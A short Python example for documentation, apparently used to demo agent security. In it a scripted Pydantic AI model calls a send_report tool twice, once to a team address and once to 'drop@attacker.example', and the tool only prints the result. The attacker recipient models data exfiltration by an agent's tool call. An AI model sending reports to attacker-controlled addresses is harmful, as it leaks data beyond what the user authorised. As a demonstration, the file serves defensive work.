"""What docs/frameworks.md imports as ``my_agent``, for Pydantic AI: prints what happens."""

from pydantic_ai import FunctionToolset
from pydantic_ai.messages import (
    ModelMessage,
    ModelResponse,
    TextPart,
    ToolCallPart,
    ToolReturnPart,
)
from pydantic_ai.models.function import AgentInfo, FunctionModel


def answer(messages: list[ModelMessage], _info: AgentInfo) -> ModelResponse:
    told = [
        part for message in messages for part in message.parts if isinstance(part, ToolReturnPart)
    ]
    for part in told:
        print("read:", part.content)
    if told:
        return ModelResponse(parts=[TextPart("Done.")])
    recipients = ["team@example.com", "drop@attacker.example"]
    return ModelResponse(parts=[ToolCallPart("send_report", {"to": to}) for to in recipients])


model = FunctionModel(answer)
toolset: FunctionToolset[None] = FunctionToolset()


@toolset.tool_plain
def send_report(to: str) -> str:
    """Sends a report by mail."""
    print("sent to", to)
    return f"sent to {to}"
